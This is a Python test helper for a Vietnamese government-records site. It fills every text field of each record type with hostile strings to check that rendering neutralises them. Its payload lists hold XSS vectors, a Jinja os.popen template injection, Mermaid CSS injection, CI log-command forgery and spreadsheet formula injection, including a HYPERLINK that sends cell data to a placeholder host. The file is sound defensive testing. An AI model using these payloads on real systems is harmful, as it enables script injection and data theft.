"""Hostile text for every field of every record kind: the corpus, full records, and injection.

`FULL` holds one record of each kind with every optional part filled, so that every text field
of the model appears. `text_leaves` walks a record together with its JSON Schema and names each
text value by the model class and field it belongs to ("Channel.notes", "Pending.pending"), so a
test can check that every text field of `schemas/*.json` received hostile text, and fail when the
model gains a field the corpus does not reach.
"""

from __future__ import annotations

import copy
import re
from collections.abc import Iterator
from typing import Any

import yaml

from minhbach.model import KINDS
from minhbach.model.schema import branches, json_schema
from minhbach.settings.languages import translatable_languages
from tests import conftest

# Accepted everywhere (at most a warning) and rendered as text: each must come out inert.
TEXT_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style><script>alert(1)</script>",
    "Thông báo <cập nhật> … <b>khẩn</b>",
    "[Xem](javascript:alert(1))",
    "<a href=\"jav&#x61;script:alert(1)\">x</a>",
    "JaVaScRiPt:alert(1)",
    "Hi\n{: tabindex=0 autofocus=autofocus onfocus=alert(1) }",
    "Văn bản {: onclick=alert(1) }",
    '%%{init: {"theme": "dark", "themeCSS": ".node rect{fill:url(https://x.invalid/a)}"}}%%',
    "%%{init: {'theme': 'dark', 'themeCSS': '.node rect{fill:url(https://x.invalid/b)}'}}%%",
    "{{ cycler.__init__.__globals__.os.popen('echo PWNED').read() }}",
    "{% for x in range(3) %}PWNED{% endfor %} {# c #}",
    "*đậm* _nghiêng_ **x** `mã` # không phải tiêu đề",
    "- mục\n1. mục",
    '=HYPERLINK("http://x.invalid/?d="&A2,"Bấm để xem")',
    "]]></title><x>&amp;&lt;&#0;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- chú thích --> <iframe src=\"https://x.invalid/\"></iframe>",
    "<style>body{display:none}</style><meta http-equiv=\"refresh\" content=\"0;url=https://x.invalid/\">",
    "data:text/html,<script>alert(1)</script>",
    "<img src=x onerror=document.documentElement.setAttribute('data-pwned',1)>",
    "办理手续 联系方式 🇻🇳 Đăng ký",
    "x\n::error file=a.yml,line=1::forged\n::add-mask::x",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]

# Only for Markdown fields: refused with an error finding (the subset will not show them).
MARKDOWN_REFUSED = {
    "[Xem][1]\n\n[1]: javascript:alert(1)": "unsafe-link",
    "[Xem](jav&#x61;script:alert(1))": "unsafe-link",
    "[Xem](JAVA&#9;SCRIPT:alert(1))": "unsafe-link",
    "[Xem](&#x20;java&#x0A;script:alert(1))": "unsafe-link",
    "[Xem](<javascript:alert(1)>)": "unsafe-link",
    "[Xem](vbscript:msgbox(1))": "unsafe-link",
    "[Xem](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)": "unsafe-link",
    "![](https://x.invalid/a.png){: onerror=alert(1) }": "external-image",
    "![a](//x.invalid/a.png)": "external-image",
    "[" * 250: "markdown-too-complex",
    "\n".join("    " * level + "- x" for level in range(30)): "markdown-too-complex",
}

# Web addresses that pass the URL type and must stay inert wherever they are printed.
URL_PAYLOADS = [
    "https://a.vn/)[Tải mẫu](javascript:alert(1)",
    'https://a.vn/"><script>alert(1)</script>',
    "https://a.vn/?q=<img src=x onerror=alert(1)>",
    "http://a.vn/#'onmouseover='alert(1)",
    "https://a.vn/%0a::error::x",
]

UNIT_ID, FIELD_ID, LEGAL_ID, PROCEDURE_ID = "phong-mot", "lanh-su", "nd-111-2011", "hop-phap-hoa"


def _load(text: str) -> dict[str, Any]:
    return yaml.safe_load(text)


def _full_procedure(internal: bool = False) -> dict[str, Any]:
    data = _load(conftest.PROCEDURE)
    data["summary"] = "Tóm tắt."
    data["time_note"] = "Ghi chú thời hạn."
    data["fee_note"] = "Ghi chú phí."
    data["requirements"] = ["Yêu cầu một."]
    data["announced_by"] = LEGAL_ID
    data["sources"] = ["Nguồn đối chiếu."]
    data["agency"]["coordinating"] = "Cơ quan phối hợp."
    data["channels"][0]["notes"] = "Mô tả kênh."
    data["channels"][0]["fee"]["note"] = "Ghi chú khoản phí."
    data["channels"][0]["fee"]["items"][0]["label"] = "Cấp mới"
    data["channels"][1]["time"] = {"periods": [
        {"from": "2025-01-01", "until": "2025-12-31", "basis": LEGAL_ID, "value": {"working_days": 2}},
        {"from": "2026-01-01", "value": {"not_fixed": "Tùy số lượng giấy tờ."}}]}
    data["channels"][1]["fee"] = {"periods": [
        {"from": "2025-01-01", "until": "2026-12-31", "basis": LEGAL_ID, "value": {"items": [{"amount": 15000, "label": "Giảm 50%"}]}},
        {"from": "2027-01-01", "value": {"items": [{"amount": 30000, "label": "Mức thu đầy đủ"}]}}]}
    data["agency_code"] = {"not_applicable": "Thủ tục do cơ quan trung ương giải quyết."}
    data["reception"]["hours"] = "Giờ hành chính các ngày làm việc."
    data["dossier"]["sets"] = {"pending": "Chưa rõ số bộ hồ sơ."}
    data["dossier"]["note"] = "Ghi chú hồ sơ."
    data["dossier"]["items"][0]["note"] = "Bản sao có chứng thực."
    data["dossier"]["items"][0]["form"]["url"] = "https://dichvucong.gov.vn/mau"
    data["common_rejections"] = [{"reason": "Lý do trả hồ sơ.", "fix": "Cách khắc phục."}]
    if internal:
        data["id"] = "noi-bo-mot"
        for key in ("national_code", "agency_code", "level", "reception", "online", "common_rejections"):  # public procedures only
            data.pop(key)
        data["code"] = "Số hiệu nội bộ."
    return data


REPLACEMENT = conftest.LEGAL.replace("id: nd-111-2011", "id: nd-moi").replace("number: 111/2011/NĐ-CP", "number: 99/2025/NĐ-CP")
EXTRA_FILES = {"data/legal/nd-moi.yml": REPLACEMENT}
"""Records the full records point to besides the test project's own."""


def _full_legal() -> dict[str, Any]:
    data = _load(conftest.LEGAL)
    data["summary"] = "Nội dung chính."
    data["replaced_by"] = "nd-moi"
    data["effective"] = {"pending": "Chưa rõ ngày có hiệu lực."}
    data["url"] = "https://vbpl.vn/"
    data["national_db_id"] = 27130
    return data


def _full_unit() -> dict[str, Any]:
    data = _load(conftest.UNIT)
    data["hours"] = "Sáng thứ Hai đến thứ Sáu."
    data["parent"] = UNIT_ID
    data["phones"] = {"pending": "Chưa có số điện thoại mới."}
    data["email"] = "phong@langson.gov.vn"
    return data


def _full_field() -> dict[str, Any]:
    data = _load(conftest.FIELD)
    data["description"] = "Mô tả lĩnh vực."
    return data


def _full_workflow() -> dict[str, Any]:
    data = _load(conftest.WORKFLOW)
    data["legal_basis"] = [{"doc": LEGAL_ID, "provisions": "Điều 3"}]
    data["steps"][1]["output"] = "Phiếu trình."
    data["steps"][1]["form"] = {"name": "Mẫu phiếu", "url": "https://a.vn/mau"}
    return data


def _announcement_extras(data: dict[str, Any]) -> dict[str, Any]:
    data["late_reason"] = "Lý do đăng muộn."
    data["source_url"] = "https://a.vn/tin"
    data["tags"] = ["thẻ"]
    data["attachments"] = [{"name": "Kế hoạch", "file": "forms/to-khai.docx"}]
    data["body"] = "Nội dung."
    return data


def _full_event() -> dict[str, Any]:
    data = _announcement_extras(_load(conftest.EVENT))
    data["registration"]["note"] = "Ghi chú đăng ký."
    data["start"] = {"pending": "Ban tổ chức chưa công bố ngày."}
    data.pop("end")
    data["country"] = "Trung Quốc"
    return data


def _full_funding() -> dict[str, Any]:
    data = _announcement_extras(_load(conftest.FUNDING))
    data["valid_until"] = {"pending": "Chưa rõ hạn nộp."}
    return data


def _full_notice() -> dict[str, Any]:
    return _announcement_extras(_load(conftest.NOTICE))


def _mirror(root: dict[str, Any], node: dict[str, Any], value: Any, *, in_list: bool = False) -> Any:
    """The part of `value` that the translation schema `node` takes (its text, nested as in the record);
    None when it takes nothing of it, `{}` for an item of a list that has no text."""
    for branch in branches(root, node):
        if isinstance(value, dict) and "properties" in branch and set(value) & set(branch["properties"]):
            kept = {name: mirrored for name, child in value.items() if name in branch["properties"]
                    and (mirrored := _mirror(root, branch["properties"][name], child)) is not None}
            return kept if kept or in_list else None
        if isinstance(value, list) and branch.get("type") == "array":
            items = [_mirror(root, branch["items"], child, in_list=True) for child in value]
            return [{} if item is None else item for item in items] if any(item is not None for item in items) else None
        if isinstance(value, str) and branch.get("type") == "string" and "format" not in branch:
            return value
    return {} if in_list else None


def _with_translations(kind: str, data: dict[str, Any]) -> dict[str, Any]:
    """`data` with a translation into every site language that gives every text field it has (the Vietnamese
    text, so that no figure is lost), dated the day of the record's last update."""
    root = json_schema(kind)
    translation = root["$defs"][f"{KINDS[kind].model.__name__}Translation"]
    text = _mirror(root, translation, {name: value for name, value in data.items() if name in translation["properties"]})
    data["translations"] = {language: {"translated": data["updated"], **text} for language in translatable_languages()}
    return data


FULL: dict[str, dict[str, Any]] = {
    kind: _with_translations(kind, data)
    for kind, data in {
        "unit": _full_unit(),
        "field": _full_field(),
        "legal": _full_legal(),
        "procedure": _full_procedure(),
        "internal": _full_procedure(internal=True),
        "workflow": _full_workflow(),
        "event": _full_event(),
        "funding": _full_funding(),
        "notice": _full_notice(),
    }.items()
}
FOLDERS = {"unit": "units", "field": "fields", "legal": "legal", "procedure": "procedures", "internal": "internal-procedures",
           "workflow": "workflows", "event": "events", "funding": "funding", "notice": "notices"}


def _branches(root: dict[str, Any], node: dict[str, Any]) -> list[dict[str, Any]]:
    return list(branches(root, node))


def _is_text(schema: dict[str, Any]) -> bool:
    return schema.get("type") == "string" and "enum" not in schema and "const" not in schema and schema.get("format") not in ("date", "date-time")


def schema_text_fields(kind: str) -> dict[str, bool]:
    """Every text field a record of `kind` can hold, as "Class.field" (free text, URLs, patterns),
    and whether it takes free text (False when every text form of it has a pattern)."""
    root = json_schema(kind)
    found: dict[str, bool] = {}
    seen: set[int] = set()

    def walk(node: dict[str, Any]) -> None:
        for branch in _branches(root, node):
            if id(branch) in seen:
                continue
            seen.add(id(branch))
            for name, prop in branch.get("properties", {}).items():
                subs = _branches(root, prop)
                texts = [sub for sub in subs if _is_text(sub)]
                if texts and not any(sub.get("type") in ("number", "integer") for sub in subs):
                    key = f"{branch.get('title', kind)}.{name}"
                    found[key] = found.get(key, False) or any("pattern" not in sub for sub in texts)
                walk(prop)
            if "items" in branch:
                walk(branch["items"])  # a list of text is named by the property that holds it

    walk(root)
    return found


Path_ = tuple[str | int, ...]


def present_fields(kind: str, data: Any) -> set[str]:
    """Every "Class.field" that `data` gives a value to, whatever the value (text, number, pending)."""
    root = json_schema(kind)
    found: set[str] = set()

    def walk(node: dict[str, Any], value: Any) -> None:
        for branch in _branches(root, node):
            if isinstance(value, dict) and "properties" in branch and set(value) <= set(branch["properties"]):
                for name, child in value.items():
                    found.add(f"{branch.get('title', kind)}.{name}")
                    walk(branch["properties"][name], child)
                return
            if isinstance(value, list) and branch.get("type") == "array":
                for child in value:
                    walk(branch["items"], child)
                return

    walk(root, data)
    return found


def text_leaves(kind: str, data: Any) -> Iterator[tuple[Path_, str, dict[str, Any]]]:
    """(path in `data`, "Class.field", the text schema) for every text value of a record."""
    root = json_schema(kind)

    def candidates(node: dict[str, Any], value: Any) -> list[dict[str, Any]]:
        branches = _branches(root, node)
        if isinstance(value, dict):
            fitting = [b for b in branches if "properties" in b and set(value) <= set(b["properties"])]
            return fitting[:1]
        if isinstance(value, list):
            return [b for b in branches if b.get("type") == "array"][:1]
        return [b for b in branches if _is_text(b)][:1]

    def walk(node: dict[str, Any], value: Any, path: Path_, owner: str) -> Iterator[tuple[Path_, str, dict[str, Any]]]:
        for branch in candidates(node, value):
            if isinstance(value, dict):
                for name, child in value.items():
                    yield from walk(branch["properties"][name], child, path + (name,), f"{branch.get('title', kind)}.{name}")
            elif isinstance(value, list):
                for index, child in enumerate(value):
                    yield from walk(branch["items"], child, path + (index,), owner)
            elif isinstance(value, str):
                yield path, owner, branch

    yield from walk(root, data, (), kind)


def fits(schema: dict[str, Any], value: str) -> bool:
    pattern = schema.get("pattern")
    if pattern and not re.search(pattern, value):
        return False
    return schema.get("minLength", 0) <= len(value.strip() if schema.get("minLength") else value) <= schema.get("maxLength", 10**9)


def payload_for(schema: dict[str, Any], field: str, index: int, *, markdown_fields: set[str]) -> str | None:
    """The `index`-th payload (cycling) that the field accepts, or None when its pattern admits none."""
    if schema.get("format") == "uri":
        corpus = URL_PAYLOADS
    else:
        corpus = TEXT_PAYLOADS
    usable = [p for p in corpus if fits(schema, p)]
    if not usable:
        email = '"><svg/onload=alert(1)>@a.vn'
        return email if fits(schema, email) else None
    return usable[index % len(usable)]


def set_at(data: Any, path: Path_, value: Any) -> None:
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


def injected(kind: str, variant: int, *, record_id: str, markdown_fields: set[str]) -> tuple[dict[str, Any], set[str]]:
    """A copy of the full record of `kind` with hostile text in every text field that admits it.

    Returns the record and the fields ("Class.field") that received a payload.
    """
    data = copy.deepcopy(FULL[kind])
    covered: set[str] = set()
    given: dict[Path_, str] = {}
    for index, (path, field, schema) in enumerate(list(text_leaves(kind, data))):
        if path == ("id",):
            continue
        # A translation receives the payload of its Vietnamese text: a translation that loses a figure is an error.
        payload = given.get(path[2:]) if path[0] == "translations" else None
        payload = payload or payload_for(schema, field, variant + index, markdown_fields=markdown_fields)
        given[path] = payload
        if payload is None:
            continue
        set_at(data, path, payload)
        covered.add(field)
    data["id"] = record_id
    return data, covered
